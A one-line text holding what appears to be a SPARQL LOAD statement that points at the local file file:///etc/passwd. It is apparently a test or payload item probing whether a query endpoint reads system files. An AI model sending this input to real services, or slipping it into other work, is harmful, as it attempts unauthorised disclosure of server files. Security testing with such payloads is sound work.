LOAD <file:///etc/passwd>
